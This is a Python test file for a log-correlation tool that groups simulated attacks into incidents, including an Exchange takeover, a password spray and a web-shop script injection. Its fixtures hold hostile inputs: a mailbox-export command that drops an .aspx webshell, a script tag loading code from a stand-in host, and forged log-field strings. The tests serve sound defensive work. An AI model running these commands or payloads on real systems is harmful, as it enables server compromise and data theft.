"""Attacks on servers: what their logs tell comes together as one incident, and ordinary days do not join it."""

from dataclasses import replace

from sekisho.correlate.history import History
from sekisho.correlate.incidents import Choices, correlate
from sekisho.correlate.joins import Carried
from sekisho.model.artifact import Analysis, Artifact, Feature
from sekisho.model.event import Event, Logsource
from sekisho.model.finding import Evidence, Finding
from sekisho.model.observable import Observable
from sekisho.model.url import Url
from sekisho.model.verdict import Judgement, Reason, Verdict

SECOND = 1_000_000_000
NOON = 1_650_000_000 * SECOND
BAD = Judgement(Verdict.MALICIOUS, 0.97, (Reason("r", "bad", 6.5, ()),))
INTRUDER, OTHER = "203.0.113.66", "198.51.100.99"
WEIGHTS = {"low": 0.5, "medium": 1.5, "high": 3.5, "critical": 6.0}


def row(source, record, at_s, logsource, host="", user="", **fields):
    fields = {name.replace("__", "-"): value for name, value in fields.items()}
    return Event(Logsource(*logsource), fields, NOON + at_s * SECOND, host, user, source, str(record))


def request(record, at_s, path, ip=INTRUDER, status="200", source="iis.log", **more):
    fields = {"c__ip": ip, "cs__method": "POST", "cs__uri__stem": path, "sc__status": status}
    return row(source, record, at_s, ("", "webserver", ""), "MXS01", **fields, **more)


def login(record, at_s, user, ip, result, source="dovecot.log"):
    return row(
        source,
        record,
        at_s,
        ("imap", "authentication", ""),
        "mail",
        user=user,
        src_ip=ip,
        result=result,
        method="PLAIN",
    )


def sent(record, at_s, sender, recipient, message_id="", source="tracking.csv", subject="Re: 見積"):
    fields = {
        "sender__address": sender, "recipient__address": recipient, "message__subject": subject,
        "message__id": message_id,
    }  # fmt: skip
    return row(source, record, at_s, ("exchange", "", "message_tracking"), "MXS01", **fields)


ATTACK = {"ews theft": "T1114.002", "bulk fetch": "T1114.002", "reply burst": "T1534", "spray": "T1110.003"}


def finding(event, rule, level="high", of=(), layer="server"):
    attack = (ATTACK.get(rule, "T1190"),)
    return Finding(
        f"f{rule}{event.source}{event.record}", rule, rule, level, attack, event.source, event.record, event.time_ns,
        (), event.id, event.host, event.user, layer, WEIGHTS[level], of=tuple(one.id for one in of),
    )  # fmt: skip


def told(events, findings, carried=(), **choices):
    known = {one.event_id for one in findings} | {key for one in findings for key in one.of}
    history = History({Observable("message", "m1@corp.example")})
    for one in events:
        history.add(one, found=one.id in known)
    return correlate(list(carried), history, findings, Choices(**choices))


def evidence(incident):
    return {key for step in incident.steps for key in step.evidence if key.startswith("e")}


def reply(address="reply.eml", message_id="<m1@corp.example>", sender="keiri@corp.example", at_s=4000):
    """Give an internal reply with a hostile link, as carried."""
    url = Url("http://shop.partner.example/qui/et-4966787", "http://shop.partner.example/qui/et-4966787",
              "shop.partner.example", "")  # fmt: skip
    head = Artifact(address, b"", address)
    message = Analysis(
        head, f"sha {address}", 900, "message/rfc822", ("eml",),
        tuple(Feature(*one) for one in (
            ("subject", "Re: 見積"), ("sender.address", sender), ("message_id", message_id),
            ("delivered_to", "eigyo@corp.example"),
        )),
    )  # fmt: skip
    body = Analysis(
        head.child("body.txt", b"", relation="body"), f"body {address}", 90, "text/plain", ("text",),
        (Feature("url", url),),
    )  # fmt: skip
    at = NOON + at_s * SECOND
    fine = Judgement(Verdict.CLEAN, 0.05)
    return [
        Carried(message, BAD, message, at, ("eigyo@corp.example",)),
        Carried(body, fine, message, at, ("eigyo@corp.example",)),
    ]


EXPLOIT = request(1, 0, "/autodiscover/autodiscover.json")
EXPORT = row(
    "management.jsonl", 7, 30, ("windows", "", "msexchange-management"), "MXS01.corp.example",
    Data="New-MailboxExportRequest -Mailbox keiri@corp.example -FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\q7x.aspx",
)  # fmt: skip
SHELL = request(2, 90, "/aspnet_client/q7x.aspx")
READ = request(3, 600, "/EWS/Exchange.asmx", cs__username="CORP\\keiri")
REPLIES = [sent(number, 3990 + number, "keiri@corp.example", f"u{number}@corp.example") for number in range(10, 14)]
DELIVERY = sent(20, 4000, "keiri@corp.example", "eigyo@corp.example", "<m1@corp.example>")
HIJACK = [EXPLOIT, EXPORT, SHELL, READ, *REPLIES, DELIVERY]
HIJACK_FOUND = [
    finding(EXPLOIT, "proxyshell"), finding(EXPORT, "export", "critical"), finding(SHELL, "webshell"),
    finding(READ, "ews theft", "medium"), finding(REPLIES[-1], "reply burst", of=REPLIES),
]  # fmt: skip


def test_exchange_is_taken_over_and_its_mailbox_answers():
    (found,) = told(HIJACK, HIJACK_FOUND, reply())
    assert evidence(found) == {one.id for one in HIJACK}
    assert found.root_cause == EXPLOIT.id
    assert found.steps[0].evidence[0] == EXPLOIT.id
    assert "step.mail.delivered" in {step.what.key for step in found.steps}
    assert found.severity == "critical"
    entities = {(one.type, one.value, one.role) for one in found.entities}
    assert ("ip", INTRUDER, "attacker") in entities
    assert ("user", "keiri", "account") in entities
    assert ("file", "q7x.aspx", "served") in entities
    blocked = {target for one in found.recommendations if one.action == "block" for target in one.targets}
    assert {INTRUDER, "shop.partner.example"} <= blocked


def test_every_merge_says_why_and_can_be_undone():
    (found,) = told(HIJACK, HIJACK_FOUND, reply())
    shared = {(one.why.key, one.value) for one in found.merges}
    assert ("why.merge.message", "m1@corp.example") in shared
    assert ("why.merge.file", "q7x.aspx") in shared
    assert all(one.evidence and 0.5 <= one.weight <= 1.0 for one in found.merges)
    by_mail = {one.id for one in found.merges if one.value in ("m1@corp.example", "keiri")}
    split = told(HIJACK, HIJACK_FOUND, reply(), apart=frozenset(by_mail))
    assert len(split) == 2
    assert evidence(split[0]) | evidence(split[1]) >= {EXPLOIT.id, EXPORT.id, SHELL.id}


def test_a_scanner_that_was_turned_away_is_not_part_of_it():
    scans = [request(number, number, "/autodiscover/autodiscover.json", OTHER, "401") for number in range(100, 140)]
    found = told([*HIJACK, *scans], [*HIJACK_FOUND, *(finding(one, "attempt", "low") for one in scans)], reply())
    assert len(found) == 1
    assert not evidence(found[0]) & {one.id for one in scans}


def test_the_same_log_twice_changes_nothing():
    again = [Event(one.logsource, one.fields, one.time_ns, one.host, one.user, "copy/" + one.source, one.record)
             for one in HIJACK]  # fmt: skip
    both = [*HIJACK_FOUND, *(finding(one, "proxyshell") for one in again[:1])]
    (once,), (twice,) = told(HIJACK, HIJACK_FOUND, reply()), told([*HIJACK, *again], both, reply())
    assert [step.what for step in once.steps][:3] == [step.what for step in twice.steps][:3]
    assert once.probability == twice.probability


def spray():
    failed = [login(number, number, f"user{number:02}", OTHER, "failure") for number in range(40)]
    success = login(50, 60, "user07", OTHER, "success")
    fetched = row("dovecot.log", 51, 120, ("imap", "fetch", ""), "mail", user="user07", src_ip=OTHER, messages=4000)
    replies = [
        row("mail.log", number, 900 + number, ("email", "mailflow", ""), "mx", sender="user07@corp.example",
            recipient=f"c{number}@partner.example", message_id=f"s{number}@corp.example")
        for number in range(60, 90)
    ]  # fmt: skip
    findings = [
        finding(failed[-1], "spray", of=failed[:30]), finding(success, "success after failures", of=[failed[7], success]),
        finding(fetched, "bulk fetch", "medium"), finding(replies[-1], "reply burst", of=replies),
    ]  # fmt: skip
    return [*failed, success, fetched, *replies], findings


def test_spray_success_fetch_and_reply_spam_are_one_incident():
    events, findings = spray()
    (found,) = told(events, findings, reply(sender="x@else.example", message_id="<other@else.example>")[:0],
                    own=frozenset({"corp.example"}))  # fmt: skip
    keys = {step.what.key for step in found.steps}
    assert {"step.server.login", "step.server.login.many", "step.mail.sent.many"} <= keys
    assert {events[40].id, events[41].id, events[-1].id} <= evidence(found)
    taken = {target for one in found.recommendations if one.action == "reset" for target in one.targets}
    assert taken == {"user07"}


def test_an_account_that_was_only_tried_joins_nothing():
    """Two sprays on one account from two places, neither successful, are two attacks."""
    one = [login(number, number, "user07", OTHER, "failure", "a.log") for number in range(10)]
    two = [login(number, 5 * 3600 + number, "user07", INTRUDER, "failure", "b.log") for number in range(10)]
    found = told([*one, *two], [finding(one[-1], "burst", "critical", one), finding(two[-1], "burst", "critical", two)])
    assert len(found) == 2


def test_a_script_hidden_in_a_field_joins_by_what_the_rule_saw():
    order = row("orders.csv", 4, 0, ("shop", "order", ""), addr01="&quot;&gt;&lt;script src=//xf6.example/a.js&gt;")
    report = row("csp.json", 1, 7201, ("browser", "csp_violation", ""), blocked__uri="https://xf6.example/a.js")
    found = finding(order, "script in order", "critical")
    found = replace(found, evidence=(Evidence("addr01", '"><script src=//xf6.example/a.js>'),))
    (incident,) = told([order, report], [found, finding(report, "foreign script", "medium")])
    assert evidence(incident) == {order.id, report.id}


def test_an_order_strikes_when_the_shop_opens_it():
    order = row(
        "orders.csv", 4, 0, ("shop", "order", ""), order_id="1234", field="住所2", value="&lt;script",
        url="https://xf6.example/a.js",
    )  # fmt: skip
    admin = "10.0.5.9"
    viewed = request(1, 7200, "/admin/order/1234/edit", admin, source="access.log")
    upload = request(2, 7204, "/admin/store/plugin/upload", admin, source="access.log")
    shell = request(3, 7300, "/html/upload/save_image/k3.php", INTRUDER, source="access.log")
    wrote = row("csp.json", 1, 7201, ("shop", "csp", ""), blocked__uri="https://xf6.example/a.js")
    other = request(9, 7202, "/admin/order/1199/edit", admin, source="access.log")
    findings = [
        finding(order, "script in order", "high"), finding(upload, "view then upload", "high", [viewed, upload]),
        finding(shell, "webshell", "high"), finding(wrote, "foreign script", "medium"),
    ]  # fmt: skip
    (found,) = told([order, viewed, upload, shell, wrote, other], findings)
    assert evidence(found) == {one.id for one in (order, viewed, upload, shell, wrote)}
    assert found.root_cause == order.id


def test_two_intruders_on_one_server_stay_two():
    mine = [request(1, 0, "/owa/auth/a1.aspx"), request(2, 60, "/owa/auth/a1.aspx")]
    late = 5 * 24 * 3600
    theirs = [request(3, late, "/ecp/b2.aspx", OTHER), request(4, late + 60, "/ecp/b2.aspx", OTHER)]
    found = told([*mine, *theirs], [finding(one, "webshell", "critical") for one in [*mine, *theirs]])
    assert [len(evidence(one)) for one in found] == [2, 2]


def test_rows_of_other_logs_join_a_mail_by_what_it_links_to():
    """A proxy whose clock is two hours off, and a colleague who clicked too."""
    carried = reply(sender="x@else.example", message_id="<z@else.example>")
    wanted = Observable("url", "shop.partner.example/qui/et-4966787")
    history = History({wanted})
    off = 2 * 3600
    rows = [
        row("squid.log", 1, 4100 + off, ("", "proxy", ""), c__uri="http://shop.partner.example/qui/et-4966787",
            **{"c__ip": "10.0.0.7"}),
        row("squid.log", 2, 4100 + off, ("", "proxy", ""), c__uri="http://news.example/", **{"c__ip": "10.0.0.8"}),
        row("squid.log", 3, 5100 + off, ("", "proxy", ""), c__uri="http://shop.partner.example/qui/et-4966787",
            **{"c__ip": "10.0.0.9"}),
    ]  # fmt: skip
    for one in rows:
        history.add(one)
    (found,) = correlate(carried, history, [])
    assert evidence(found) == {rows[0].id, rows[2].id}
    assert [(one.value, one.state) for one in found.reached] == [
        ("10.0.0.7", "contacted"), ("10.0.0.9", "contacted"), ("eigyo@corp.example", "received"),
    ]  # fmt: skip


def test_mails_of_one_wave_without_files_are_one_incident():
    carried = [*reply("a.eml", "<1@x.example>", "x@else.example"), *reply("b.eml", "<2@x.example>", "x@else.example")]
    (found,) = correlate(carried, History(), [])
    assert len([one for one in found.merges if one.why.key.startswith("why.merge.wave")]) == 1


def test_lines_an_attacker_wrote_forge_no_account_and_no_address():
    """What stands inside a user agent or a user name is one value of its field, never another field."""
    forged = login(1, 0, "x>, rip=10.0.0.1, user=<admin", OTHER, "failure")
    agent = request(2, 1, "/owa/", cs__user__agent="admin 10.0.0.1 c-ip=10.0.0.2")
    found = told([forged, agent], [finding(forged, "burst", "critical"), finding(agent, "probe", "critical")])
    values = {one.value for incident in found for one in incident.entities}
    assert not values & {"admin", "10.0.0.1", "10.0.0.2"}
